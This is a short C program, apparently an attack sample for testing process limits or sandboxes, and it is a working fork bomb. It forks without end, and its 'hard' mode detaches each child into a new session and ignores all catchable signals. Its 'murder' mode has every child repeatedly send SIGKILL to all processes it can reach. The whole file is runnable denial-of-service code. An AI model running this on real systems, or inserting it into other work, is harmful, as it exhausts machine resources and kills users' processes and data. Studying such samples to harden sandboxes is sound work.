// Forks without end; "hard" also leaves its session and ignores every signal it may;
// "murder" has every one of them kill all others that it can reach, over and over.
#include "attack.h"

int main(int argc, char **argv) {
  int hard = argc > 1 && !strcmp(argv[1], "hard");
  int murder = argc > 1 && !strcmp(argv[1], "murder");
  for (;;) {
    if (fork() != 0) continue;
    if (murder) kill(-1, SIGKILL);
    if (hard) {
      setsid();
      for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    }
  }
}
